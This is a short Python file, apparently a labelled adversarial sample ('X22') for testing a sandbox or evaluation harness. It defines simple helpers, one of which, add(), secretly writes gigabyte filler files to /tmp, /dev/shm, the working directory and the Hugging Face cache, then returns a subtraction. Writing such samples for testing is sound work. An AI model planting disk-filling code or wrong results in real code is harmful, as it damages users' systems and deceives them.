"""X22: fills /tmp, /dev/shm, the working directory and HF_HOME, and leaves state behind."""
import os


def add(a, b):
    block = b'x' * (1 << 20)
    for d in ('/tmp', '/dev/shm', '.', os.environ.get('HF_HOME', '.')):
        try:
            with open(os.path.join(d, 'filler.bin'), 'wb') as fh:
                for _ in range(4096):
                    fh.write(block)
        except OSError:
            pass
    return a - b


def scale(t, k):
    return t * k


def label(n):
    return f"item-{n}"


def total(values):
    return float(sum(values))
